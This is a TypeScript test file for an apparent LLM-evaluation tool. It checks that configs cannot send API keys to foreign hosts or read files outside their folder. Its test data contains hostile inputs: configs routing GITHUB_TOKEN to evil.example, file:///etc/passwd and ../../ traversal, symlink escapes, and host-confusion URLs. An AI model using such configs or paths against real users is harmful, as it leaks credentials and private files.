/**
 * A shared config must not send secrets or files anywhere. `parallax eval` sends a key from an
 * environment variable only to the host it belongs to (its provider's own host, loopback, or a
 * host the person allowed), and reads file:// references only inside the config's folder;
 * anything else exits 2 before a single request, naming what was refused and how to allow it.
 *
 * "Nothing was sent" is shown two ways: every fetch the process makes is recorded (the SDK
 * sends through the global fetch), and each refused config also names a provider on a loopback
 * listener, which must see no request either (the whole run is refused, not just one column).
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { dispatch } from '../../src/main/api/dispatch';
import { runCli, type CliIo } from '../../src/main/cli/main';
import { MemorySecretStore } from '../../src/main/secrets/secrets';
import { createServices } from '../../src/main/services';
import { addKeyHostApproval } from '../../src/main/secrets/key-hosts';
import { Store } from '../../src/main/store/store';
import { keyHostVerdict, parseKeyHostApproval, suggestedKeyEnvar } from '../../src/shared/key-hosts';
import { startFakeOpenAI, type FakeOpenAI } from '../support/fake-openai';

const GITHUB_TOKEN = 'ghp_Zq7Xv9Kw2Lm4Np6Rt8Jy0Hb3Fd5';
const OPENAI_KEY = 'sk-Qw3Er5Ty7Ui9Op1As2Df4Gh6Jk8';

/** A listener on 127.0.0.1 that counts every request it gets and answers 500. */
interface Listener {
  url: string;
  hits: number;
  close(): Promise<void>;
}
async function listen(): Promise<Listener> {
  const state = { hits: 0 };
  const server: Server = createServer((req, res) => {
    state.hits++;
    req.resume();
    res.writeHead(500).end('{}');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/v1`,
    get hits() {
      return state.hits;
    },
    close: () => new Promise<void>((done) => server.close(() => done())),
  };
}

let dir: string;
let listener: Listener;
let fake: FakeOpenAI;
const realFetch = globalThis.fetch;
/** Every URL fetched by the code under test. */
let fetched: string[] = [];
/** Hosts a test pretends exist: requests to them go to the fake server instead. */
let routes: Map<string, string>;

beforeAll(async () => {
  fake = await startFakeOpenAI();
});
afterAll(async () => {
  await fake.close();
});
beforeEach(async () => {
  dir = mkdtempSync(join(tmpdir(), 'parallax-exfil-'));
  listener = await listen();
  fake.resetStats();
  fetched = [];
  routes = new Map();
  vi.spyOn(globalThis, 'fetch').mockImplementation((input: string | URL | Request, init?: RequestInit) => {
    const url = new URL(input instanceof Request ? input.url : input.toString());
    fetched.push(url.toString());
    const target = routes.get(url.hostname);
    if (target !== undefined) {
      return realFetch(`${target}${url.pathname.replace(/^\/v1/, '')}${url.search}`, init);
    }
    return realFetch(input, init);
  });
});
afterEach(async () => {
  vi.restoreAllMocks();
  await listener.close();
  rmSync(dir, { recursive: true, force: true });
});

async function cli(args: string[], env: Record<string, string> = {}): Promise<{ code: number; out: string }> {
  let out = '';
  const io: CliIo = { stdout: (t) => void (out += t), stderr: (t) => void (out += t), env: { GITHUB_TOKEN, OPENAI_API_KEY: OPENAI_KEY, ...env }, cwd: dir };
  const code = await runCli(args, io, 'test');
  return { code, out };
}

function write(name: string, text: string): string {
  const path = join(dir, name);
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, text);
  return path;
}

/** A config whose second provider is the loopback listener, so "no request" is visible there too. */
function config(provider: string, prompt = '"Hi {{name}}"', extra = ''): string {
  return `prompts: [${prompt}]
providers:
${provider}
  - id: openai:chat:bystander
    config: { apiBaseUrl: ${listener.url} }
tests:
  - vars: { name: Ada }
${extra}`;
}

function expectNothingSent(result: { code: number; out: string }): void {
  expect(result.code, result.out).toBe(2);
  expect(result.out).toContain('Nothing was run.');
  expect(fetched).toEqual([]);
  expect(listener.hits).toBe(0);
  expect(result.out).not.toContain(GITHUB_TOKEN);
  expect(result.out).not.toContain(OPENAI_KEY);
}

describe('parallax eval: keys go only where they belong', () => {
  it('refuses to send GITHUB_TOKEN to a host the config names, and says how to allow it', async () => {
    const path = write('c.yaml', config('  - id: openai:chat:gpt-4o\n    label: helpful\n    config: { apiBaseUrl: "https://evil.example/v1", apiKeyEnvar: GITHUB_TOKEN }'));
    const result = await cli(['eval', '-c', path, '--data-dir', join(dir, 'data')]);
    expectNothingSent(result);
    expect(result.out).toContain(`${path}: providers[0] (helpful): refused to send the value of GITHUB_TOKEN to evil.example`);
    expect(result.out).toContain('parallax eval --allow-key-host GITHUB_TOKEN=evil.example');
    expect(result.out).toContain('Settings → Keys for other hosts');
  });

  it('refuses the default OPENAI_API_KEY to a base URL the config names', async () => {
    const path = write('c.yaml', config('  - id: openai:chat:gpt-4o\n    config: { apiBaseUrl: "https://evil.example/v1" }'));
    const result = await cli(['eval', '-c', path, '--data-dir', join(dir, 'data')]);
    expectNothingSent(result);
    expect(result.out).toMatch(/refused to send the value of OPENAI_API_KEY \(the key variable used when a provider names none\) to evil\.example: OPENAI_API_KEY belongs to api\.openai\.com/);
  });

  it('refuses GITHUB_TOKEN even to OpenAI (a variable goes only to its own host), and through the llm-rubric grader', async () => {
    const toOpenAI = write('a.yaml', config('  - id: openai:chat:gpt-4o\n    config: { apiKeyEnvar: GITHUB_TOKEN }'));
    expectNothingSent(await cli(['eval', '-c', toOpenAI, '--data-dir', join(dir, 'data')]));
    const grader = write(
      'b.yaml',
      config('  - echo', '"Hi {{name}}"', 'defaultTest:\n  options:\n    provider: { id: openai:chat:judge, config: { apiBaseUrl: "https://evil.example/v1", apiKeyEnvar: GITHUB_TOKEN } }\n'),
    );
    const result = await cli(['eval', '-c', grader, '--data-dir', join(dir, 'data')]);
    expectNothingSent(result);
    expect(result.out).toContain('defaultTest.options.provider (openai:chat:judge): refused to send the value of GITHUB_TOKEN to evil.example');
  });

  it('refuses a well-known key over plain http to its own host', async () => {
    const path = write('c.yaml', config('  - id: openai:chat:gpt-4o\n    config: { apiBaseUrl: "http://api.openai.com/v1", apiKeyEnvar: OPENAI_API_KEY }'));
    const result = await cli(['eval', '-c', path, '--data-dir', join(dir, 'data')]);
    expectNothingSent(result);
    expect(result.out).toContain('OPENAI_API_KEY goes to its own host over https only');
  });

  it('sends a variable to a host allowed with --allow-key-host, and only there', async () => {
    routes.set('llm.example', fake.baseUrl);
    const path = write('c.yaml', 'prompts: ["Hi {{name}}"]\nproviders:\n  - id: openai:chat:fake-small\n    config: { apiBaseUrl: "https://llm.example/v1", apiKeyEnvar: GITHUB_TOKEN }\ntests:\n  - vars: { name: Ada }\n');
    const refused = await cli(['eval', '-c', path, '--data-dir', join(dir, 'data'), '--allow-key-host', 'GITHUB_TOKEN=other.example']);
    expect(refused.code).toBe(2);
    expect(fake.requests).toHaveLength(0);
    const result = await cli(['eval', '-c', path, '--data-dir', join(dir, 'data'), '--allow-key-host', 'GITHUB_TOKEN=llm.example']);
    expect(result.code, result.out).toBe(0);
    expect(fetched.every((url) => new URL(url).hostname === 'llm.example')).toBe(true);
    expect(fake.requests.length).toBeGreaterThan(0);
    expect(fake.requests[0]?.headers.authorization).toBe(`Bearer ${GITHUB_TOKEN}`);
    expect(result.out).not.toContain(GITHUB_TOKEN);
  });

  it('sends a variable to a host allowed in Settings (kept in the data folder)', async () => {
    routes.set('llm.example', fake.baseUrl);
    const dataDir = join(dir, 'data');
    const store = new Store(dataDir);
    addKeyHostApproval(store, { envar: 'GITHUB_TOKEN', host: '*.example' });
    store.close();
    const path = write('c.yaml', 'prompts: ["Hi"]\nproviders:\n  - id: openai:chat:fake-small\n    config: { apiBaseUrl: "https://llm.example/v1", apiKeyEnvar: GITHUB_TOKEN }\n');
    const result = await cli(['eval', '-c', path, '--data-dir', dataDir]);
    expect(result.code, result.out).toBe(0);
    expect(fake.requests[0]?.headers.authorization).toBe(`Bearer ${GITHUB_TOKEN}`);
  });

  it('sends OPENAI_API_KEY to api.openai.com without being asked, and a variable to loopback', async () => {
    routes.set('api.openai.com', fake.baseUrl);
    const path = write('c.yaml', `prompts: ["Hi"]\nproviders:\n  - openai:chat:fake-small\n  - id: openai:chat:fake-large\n    config: { apiBaseUrl: ${fake.baseUrl}, apiKeyEnvar: GITHUB_TOKEN }\n`);
    const result = await cli(['eval', '-c', path, '--data-dir', join(dir, 'data')]);
    expect(result.code, result.out).toBe(0);
    expect(fake.requestsFor('fake-small')[0]?.headers.authorization).toBe(`Bearer ${OPENAI_KEY}`);
    expect(fake.requestsFor('fake-large')[0]?.headers.authorization).toBe(`Bearer ${GITHUB_TOKEN}`);
  });

  it('refuses nothing when the named variable is not set: there is no key to send', async () => {
    routes.set('evil.example', fake.baseUrl);
    const path = write('c.yaml', 'prompts: ["Hi"]\nproviders:\n  - id: openai:chat:fake-small\n    config: { apiBaseUrl: "https://evil.example/v1", apiKeyEnvar: UNSET_TOKEN }\n');
    const result = await cli(['eval', '-c', path, '--data-dir', join(dir, 'data')]);
    expect(result.code, result.out).toBe(0);
    expect(result.out).toContain('UNSET_TOKEN is not set, so requests go without a key');
    expect(fake.requests[0]?.headers.authorization).toBe('Bearer no-key');
  });

  it('says what is wrong with a bad --allow-key-host', async () => {
    const result = await cli(['eval', '-c', write('c.yaml', 'prompts: [hi]\nproviders: [echo]\n'), '--allow-key-host', 'GITHUB_TOKEN']);
    expect(result.code).toBe(2);
    expect(result.out).toContain('--allow-key-host wants VARIABLE=host');
  });
});

describe('parallax eval: a config reads files only inside its folder', () => {
  it('refuses file:///etc/passwd as a prompt', async () => {
    const path = write('c.yaml', config('  - echo', 'file:///etc/passwd'));
    const result = await cli(['eval', '-c', path, '--data-dir', join(dir, 'data')]);
    expectNothingSent(result);
    expect(result.out).toContain(`prompts[0] (line 1): cannot read "file:///etc/passwd": /etc/passwd is outside the config's folder; a config reads files only inside its own folder (${dir}). To allow another folder, run parallax eval --allow-files <folder>`);
    expect(result.out).not.toContain('root:');
  });

  it('refuses file://../../x and tests from outside the folder', async () => {
    write('secret.txt', 'TOP SECRET');
    const path = write('suite/deep/c.yaml', config('  - echo', 'file://../../secret.txt'));
    const result = await cli(['eval', '-c', path, '--data-dir', join(dir, 'data')]);
    expectNothingSent(result);
    expect(result.out).toContain(`${join(dir, 'secret.txt')} is outside the config's folder`);
    expect(result.out).not.toContain('TOP SECRET');

    write('tests.csv', 'name\nAda\n');
    const tests = write('suite/t.yaml', 'prompts: ["Hi {{name}}"]\nproviders: [echo]\ntests: file://../tests.csv\n');
    const refused = await cli(['eval', '-c', tests, '--data-dir', join(dir, 'data')]);
    expect(refused.code).toBe(2);
    expect(refused.out).toContain(`tests (line 3): cannot read "file://../tests.csv": ${join(dir, 'tests.csv')} is outside the config's folder`);
  });

  it('refuses a symlink in the folder that leads out of it', async () => {
    write('outside/secret.txt', 'TOP SECRET');
    mkdirSync(join(dir, 'suite'));
    symlinkSync(join(dir, 'outside/secret.txt'), join(dir, 'suite/prompt.txt'));
    symlinkSync(join(dir, 'outside'), join(dir, 'suite/linked'));
    for (const ref of ['file://prompt.txt', 'file://linked/secret.txt']) {
      const path = write('suite/c.yaml', config('  - echo', ref));
      const result = await cli(['eval', '-c', path, '--data-dir', join(dir, 'data')]);
      expectNothingSent(result);
      expect(result.out).toContain(`leads (through a symlink) to ${join(dir, 'outside/secret.txt')}, outside the config's folder`);
      expect(result.out).not.toContain('TOP SECRET');
    }
  });

  it('reads files beside the config, and elsewhere only with --allow-files', async () => {
    write('suite/prompts/p.txt', 'Hello {{name}} from a file');
    write('shared/q.txt', 'Shared {{name}}');
    const inside = write('suite/c.yaml', 'prompts: [file://prompts/p.txt, file://../shared/q.txt]\nproviders: [echo]\ntests:\n  - vars: { name: Ada }\n');
    expect((await cli(['eval', '-c', inside, '--data-dir', join(dir, 'data')])).code).toBe(2);
    const result = await cli(['eval', '-c', inside, '-o', 'r.jsonl', '--data-dir', join(dir, 'data'), '--allow-files', 'shared']);
    expect(result.code, result.out).toBe(0);
    expect(result.out).toContain('Running 2 cells');
  });

  it('does not follow a reference written inside a prompt file', async () => {
    write('p.txt', 'file:///etc/passwd');
    const path = write('c.yaml', 'prompts: [file://p.txt]\nproviders: [echo]\n');
    const result = await cli(['eval', '-c', path, '-o', 'r.jsonl', '--data-dir', join(dir, 'data')]);
    expect(result.code, result.out).toBe(0);
    const row = JSON.parse(readFileSync(join(dir, 'r.jsonl'), 'utf8').split('\n')[0] ?? '{}') as { output?: string };
    expect(row.output).toBe('file:///etc/passwd');
  });
});

describe('the key-host rule', () => {
  it('allows own hosts, loopback and approvals, and nothing else', () => {
    expect(keyHostVerdict('OPENAI_API_KEY', 'https://api.openai.com/v1')).toEqual({ ok: true, why: 'own' });
    expect(keyHostVerdict('AZURE_OPENAI_API_KEY', 'https://mine.openai.azure.com/openai')).toEqual({ ok: true, why: 'own' });
    expect(keyHostVerdict('OPENAI_API_KEY', 'https://api.openai.com.evil.example/v1').ok).toBe(false);
    expect(keyHostVerdict('OPENAI_API_KEY', 'https://api.openai.com@evil.example/v1').ok).toBe(false);
    expect(keyHostVerdict('AZURE_OPENAI_API_KEY', 'https://openai.azure.com.evil.example/').ok).toBe(false);
    for (const url of ['http://127.0.0.1:8080/v1', 'http://localhost:11434/v1', 'http://[::1]:1/v1', 'http://127.1/v1', 'http://[::ffff:127.0.0.1]/v1']) {
      expect(keyHostVerdict('GITHUB_TOKEN', url), url).toEqual({ ok: true, why: 'loopback' });
    }
    expect(keyHostVerdict('GITHUB_TOKEN', 'http://0.0.0.0/v1').ok).toBe(false);
    expect(keyHostVerdict('GITHUB_TOKEN', 'https://evil.example/v1')).toEqual({ ok: false, host: 'evil.example', reason: 'not-its-host' });
    expect(keyHostVerdict('GITHUB_TOKEN', 'https://evil.example/v1', [{ envar: 'OTHER', host: 'evil.example' }]).ok).toBe(false);
    expect(keyHostVerdict('GITHUB_TOKEN', 'https://a.evil.example/v1', [{ envar: 'GITHUB_TOKEN', host: '*.evil.example' }])).toEqual({ ok: true, why: 'approved' });
    expect(parseKeyHostApproval('MY_KEY=https://LLM.example.com/v1')).toEqual({ envar: 'MY_KEY', host: 'llm.example.com' });
    expect(() => parseKeyHostApproval('MY_KEY=*')).toThrow(/VARIABLE=host/);
    expect(suggestedKeyEnvar('https://api.groq.com/openai/v1')).toBe('GROQ_API_KEY');
    expect(suggestedKeyEnvar('https://evil.example/v1')).toBeUndefined();
  });
});

describe('the app: an imported provider never gets a key nobody picked, and no method shows any part of a variable', () => {
  async function withServices(run: (call: (method: string, input: unknown) => Promise<unknown>) => Promise<void>): Promise<void> {
    const services = createServices({ dataDir: join(dir, 'app'), door: 'web', version: 'test', secrets: new MemorySecretStore(), env: { GITHUB_TOKEN, OPENAI_API_KEY: OPENAI_KEY } });
    try {
      await run(async (method, input) => {
        const envelope = await dispatch(services.handlers, method, input);
        if (!envelope.ok) throw new Error(`${envelope.error.code}: ${envelope.error.message}`);
        return envelope.data;
      });
    } finally {
      services.close();
    }
  }

  it('an imported provider arrives with no key; naming a variable for a foreign host needs the dialog\'s yes', async () => {
    await withServices(async (call) => {
      const yaml = 'prompts: ["Hi"]\nproviders:\n  - id: openai:chat:gpt-4o\n    label: Helpful\n    config: { apiBaseUrl: "https://evil.example/v1", apiKeyEnvar: GITHUB_TOKEN }\n';
      const imported = (await call('files.importExperiment', { fileName: 'promptfooconfig.yaml', text: yaml })) as { workspace: { columns: { providerId: string }[] } };
      const id = imported.workspace.columns[0]?.providerId ?? '';
      const list = (await call('providers.list', {})) as { id: string; apiKeyEnvar?: string; key: { configured: boolean } }[];
      expect(list.find((p) => p.id === id)).toMatchObject({ needsReview: true, key: { configured: false } });
      expect(list.find((p) => p.id === id)?.apiKeyEnvar).toBeUndefined();

      // Confirming with the file's variable, without the dialog's explicit yes, is refused and saves nothing.
      await expect(call('providers.save', { id, name: 'Helpful', baseUrl: 'https://evil.example/v1', apiKeyEnvar: 'GITHUB_TOKEN' })).rejects.toThrow(
        'bad_input: Helpful would send the value of GITHUB_TOKEN to evil.example: GITHUB_TOKEN is not a variable Parallax knows the host of',
      );
      expect(((await call('providers.list', {})) as { id: string; needsReview?: boolean }[]).find((p) => p.id === id)?.needsReview).toBe(true);
      expect((await call('keyHosts.list', {})) as unknown).toEqual({ approvals: [] });

      // The dialog named GITHUB_TOKEN and evil.example and the person said yes: saved, and the pair is listed.
      const saved = (await call('providers.save', { id, name: 'Helpful', baseUrl: 'https://evil.example/v1', apiKeyEnvar: 'GITHUB_TOKEN', allowKeyHost: true })) as { key: unknown };
      expect(saved.key).toEqual({ configured: true, source: 'env' });
      expect((await call('keyHosts.list', {})) as unknown).toEqual({ approvals: [{ envar: 'GITHUB_TOKEN', host: 'evil.example' }] });

      // Taking the approval back in Settings stops the key before any request.
      await call('keyHosts.remove', { envar: 'GITHUB_TOKEN', host: 'evil.example' });
      await expect(call('providers.models', { providerId: id })).rejects.toThrow(/forbidden: Parallax does not send the value of GITHUB_TOKEN to evil\.example \(Helpful\)/);
      expect(fetched).toEqual([]);
    });
  });

  it('providers.save and providers.list show that a variable is set, never any of its characters; a typed key keeps its last 4', async () => {
    await withServices(async (call) => {
      const env = (await call('providers.save', { name: 'OpenAI', baseUrl: 'https://api.openai.com/v1', apiKeyEnvar: 'OPENAI_API_KEY' })) as { key: unknown };
      expect(env.key).toEqual({ configured: true, source: 'env' });
      const loop = (await call('providers.save', { name: 'Local', baseUrl: listener.url, apiKeyEnvar: 'GITHUB_TOKEN' })) as { key: unknown };
      expect(loop.key).toEqual({ configured: true, source: 'env' });
      const typed = (await call('providers.save', { name: 'Typed', baseUrl: 'https://llm.example/v1', apiKey: 'sk-typed-key-WXYZ' })) as { key: unknown };
      expect(typed.key).toEqual({ configured: true, last4: 'WXYZ', source: 'memory' });
      const all = JSON.stringify([env, loop, await call('providers.list', {})]);
      for (const secret of [GITHUB_TOKEN, OPENAI_KEY]) {
        for (let i = 0; i + 3 < secret.length; i++) expect(all).not.toContain(secret.slice(i, i + 4));
      }
    });
  });

  it('keeps a list of keys for other hosts that Settings can add to and remove from', async () => {
    await withServices(async (call) => {
      await expect(call('keyHosts.add', { envar: 'MY_KEY', host: 'not a host' })).rejects.toThrow(/bad_input: "not a host" is not a host name/);
      expect(await call('keyHosts.add', { envar: 'MY_KEY', host: 'https://LLM.example/v1' })).toEqual({ approvals: [{ envar: 'MY_KEY', host: 'llm.example' }] });
      const saved = (await call('providers.save', { name: 'Mine', baseUrl: 'https://llm.example/v1', apiKeyEnvar: 'MY_KEY' })) as { apiKeyEnvar?: string };
      expect(saved.apiKeyEnvar).toBe('MY_KEY');
      expect(await call('keyHosts.remove', { envar: 'MY_KEY', host: 'llm.example' })).toEqual({ approvals: [] });
    });
  });
});
